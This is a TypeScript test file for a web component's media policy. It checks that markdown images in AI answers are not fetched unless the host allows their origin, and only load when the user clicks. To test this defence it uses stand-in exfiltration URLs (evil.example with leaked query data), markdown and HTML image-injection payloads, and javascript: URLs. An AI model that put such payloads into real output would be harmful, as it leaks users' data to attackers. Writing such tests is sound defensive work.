import { assert, fixture, html, waitUntil } from "@open-wc/testing";
import "../../src/define.js";
import { drawPicture } from "../../src/draw/media/picture.js";
import { mayFetch, mediaUrl } from "../../src/draw/media.js";
import { mediaPolicy, noMedia } from "../../src/draw/media-policy.js";
import type { IntuiTree } from "../../src/index.js";
import { type FakeSession, fakeSession } from "./fake-session.js";
import { all, mount, one } from "./mount.js";

const there = "/demo/images/answer.png";
const nowhere = "/demo/images/none.png";

describe("media: the policy", () => {
  const allows = (given: unknown, url: string) => mediaPolicy(given).allows(new URL(url));

  it("allows the origins that a host names, and no other", () => {
    for (const given of [
      ["https://a.example"],
      "https://a.example",
      ["https://a.example/path?x"],
      " https://A.example, ",
    ]) {
      assert.isTrue(allows(given, "https://a.example/p.png"));
      for (const url of [
        "https://b.a.example/p.png",
        "http://a.example/p.png",
        "https://a.example:8443/",
        "https://a.example.evil/",
      ]) {
        assert.isFalse(allows(given, url), `${given}: ${url}`);
      }
    }
    assert.isTrue(allows("https://a.example https://b.example", "https://b.example/"));
  });

  it("takes https: for every origin that is encrypted", () => {
    for (const given of ["https:", ["https:"], ["http://a.example", "https:"]]) {
      assert.isTrue(allows(given, "https://any.example/"));
      assert.isFalse(allows(given, "http://any.example/"));
    }
    assert.isTrue(allows(["http://a.example", "https:"], "http://a.example/"));
  });

  it("allows nothing by default, nor by what is neither", () => {
    for (const given of [
      undefined,
      null,
      "",
      [],
      "*",
      ["*"],
      "http:",
      ["a.example"],
      true,
      {},
      ["data:"],
      [""],
      ["null"],
      7,
    ]) {
      for (const url of ["https://a.example/", "http://a.example/", "data:image/png;base64,AA"])
        assert.isFalse(allows(given, url));
    }
  });

  it("looks at the address as a browser reads it, and takes what is fetched from the web alone", () => {
    assert.equal(mediaUrl("https://a.example@b.example/x")?.host, "b.example");
    assert.equal(mediaUrl("//b.example/x")?.host, "b.example");
    assert.equal(mediaUrl(" ht\ntps://b.example/x ")?.href, "https://b.example/x");
    assert.equal(mediaUrl("x.png")?.origin, location.origin);
    for (const href of [
      "data:image/svg+xml,<svg/>",
      "javascript:x",
      "blob:https://a.b/c",
      "file:///x",
      "mailto:a@b",
      "https://",
      "tel:1",
    ]) {
      assert.isUndefined(mediaUrl(href), href);
    }
  });

  it("holds for one session: what a person asked for there is not asked for elsewhere", () => {
    const url = new URL("https://a.example/x");
    assert.isFalse(mayFetch({ media: noMedia }, url));
    assert.isTrue(mayFetch({ media: mediaPolicy("https:") }, url));
  });
});

describe("media: a picture", () => {
  async function picture(
    href: string,
    session: FakeSession,
    link?: (content: unknown) => unknown,
  ): Promise<HTMLElement> {
    const box = await fixture<HTMLElement>(
      html`<p>${drawPicture({ href, alt: "The load", title: "t" }, session, link)}</p>`,
    );
    await waitUntil(() => box.querySelector("button, img, .media-name"));
    return box;
  }
  const button = (box: Element) => box.querySelector("button") as HTMLButtonElement;
  const words = (box: Element) => box.textContent?.replace(/\s+/g, " ").trim();

  it("is a button that says what it is and who would be asked, until it is pressed", async () => {
    const box = await picture("https://evil.example/p.png?d=secret", fakeSession());
    assert.equal(words(box), "Image: The load Load from evil.example");
    assert.lengthOf(box.querySelectorAll("img"), 0);
  });

  it("is fetched at the press, without telling from where, and takes the focus of the button", async () => {
    const box = await picture(there, fakeSession());
    button(box).focus();
    button(box).click();
    await waitUntil(() => box.querySelector("img"));
    const image = box.querySelector("img") as HTMLImageElement;
    await waitUntil(() => image.naturalWidth > 0, "it has been loaded");
    assert.deepEqual(
      ["alt", "title", "referrerpolicy", "loading", "decoding"].map((name) => image.getAttribute(name)),
      ["The load", "t", "no-referrer", "lazy", "async"],
    );
    assert.isTrue(document.activeElement === image, "the focus is on the picture");
    assert.lengthOf(box.querySelectorAll("button"), 0);
  });

  it("says when it could not be fetched, and can be tried again", async () => {
    const session = fakeSession();
    const box = await picture(nowhere, session);
    button(box).focus();
    button(box).click();
    await waitUntil(() => button(box)?.dataset.state === "failed");
    assert.equal(words(box), "Image: The load Could not be loaded. Try again");
    assert.deepEqual(session.announcements, ["Could not be loaded"]);
    assert.isTrue(document.activeElement === button(box), "the focus is back");
    button(box).click();
    await waitUntil(() => session.announcements.length === 2, "it was tried once more");
  });

  it("comes when the host allows it later, and goes when it no longer does", async () => {
    const session = fakeSession();
    const box = await picture(there, session);
    session.change({ media: mediaPolicy(location.origin) });
    await waitUntil(() => box.querySelector("img"));
    session.change({ media: noMedia });
    await waitUntil(() => button(box));
    assert.lengthOf(box.querySelectorAll("img"), 0);
  });

  it("stands beside its link until it is there, and then in it", async () => {
    const link = (content: unknown) => html`<a href="/elsewhere">${content}</a>`;
    const box = await picture(there, fakeSession(), link);
    assert.lengthOf(box.querySelectorAll("a button"), 0);
    assert.equal(box.querySelector("a")?.textContent, "The load");
    button(box).click();
    await waitUntil(() => box.querySelector("a > img"));
    assert.lengthOf(box.querySelectorAll("a"), 1);
  });

  it("is its words where there is nothing to fetch", async () => {
    for (const href of ["data:image/png;base64,AA", "javascript:alert(1)", "https://"]) {
      const box = await picture(href, fakeSession({ media: { allows: () => true } }));
      assert.equal(words(box), "Image: The load");
      assert.lengthOf(box.querySelectorAll("button, img"), 0);
    }
  });

  it("leaves nothing behind when it goes", async () => {
    const session = fakeSession();
    const box = await picture(there, session);
    assert.isAbove(session.subscribers, 0);
    box.remove();
    assert.equal(session.subscribers, 0);
  });
});

describe("media: the pictures of a Text", () => {
  const tree = (markdown: string) => ({ v: 1, root: { type: "Text", markdown } });
  const requests = (host: string) =>
    performance.getEntriesByType("resource").filter(({ name }) => new URL(name).host === host);

  it("are not fetched at any prefix of an answer, whatever way they are written", async () => {
    const reference = "![a][r] ![r][] ![r]\n\n[r]: https://evil.example/p.png?d=x 'https://evil.example/t'";
    for (const markdown of [
      "![a](https://evil.example/p.png?d=x) [b](https://evil.example/l) [![c](https://evil.example/c.png)](https://evil.example/d)",
      reference,
      "<img src='https://evil.example/h.png'> <https://evil.example/a> https://evil.example/b",
      "- ![a](https://evil.example/l.png)\n\n| ![a](https://evil.example/t.png) |\n|-|\n\n# ![a](https://evil.example/h.png)",
    ]) {
      const element = await mount();
      const text = JSON.stringify(tree(markdown));
      for (let end = 1; end <= text.length; end += 3) {
        element.text = text.slice(0, end);
        await element.updateComplete;
        assert.lengthOf(all(element, "img, picture, source, link, iframe, [src], [srcset], [style], [background]"), 0);
      }
    }
    assert.lengthOf(requests("evil.example"), 0);
  });

  it("come where the host allows their origin, by property or attribute, and stay the same elements", async () => {
    const markdown = `before ![the answer](${there}) and then **more**\n\nand more`;
    const element = await mount({ media: [location.origin] });
    const text = JSON.stringify(tree(markdown));
    let seen: Element | undefined;
    for (let end = 1; end <= text.length; end += 2) {
      element.text = text.slice(0, end);
      await element.updateComplete;
      const now = all(element, "img")[0];
      if (seen) assert.isTrue(now === seen, text.slice(0, end));
      seen = now;
    }
    assert.equal(seen?.getAttribute("src"), new URL(there, location.href).href);
    await waitUntil(() => (seen as HTMLImageElement).naturalWidth > 0, "it has been loaded");
    assert.isAtMost((seen as Element).getBoundingClientRect().width, element.getBoundingClientRect().width);
    element.media = "";
    await waitUntil(() => all(element, "button.media").length === 1);
    element.setAttribute("media", `https: ${location.origin}`);
    await waitUntil(() => all(element, "img").length === 1);
  });

  it("are remembered as asked for when the answer is drawn anew", async () => {
    const element: IntuiTree = await mount({ text: JSON.stringify(tree(`![a](${there})`)) });
    one<HTMLButtonElement>(element, "button.media").click();
    await waitUntil(() => all(element, "img").length === 1);
    element.text = JSON.stringify(tree(`Other words ![a](${there})`));
    await element.updateComplete;
    await waitUntil(() => all(element, "img").length === 1);
    assert.lengthOf(all(element, "button.media"), 0);
  });
});
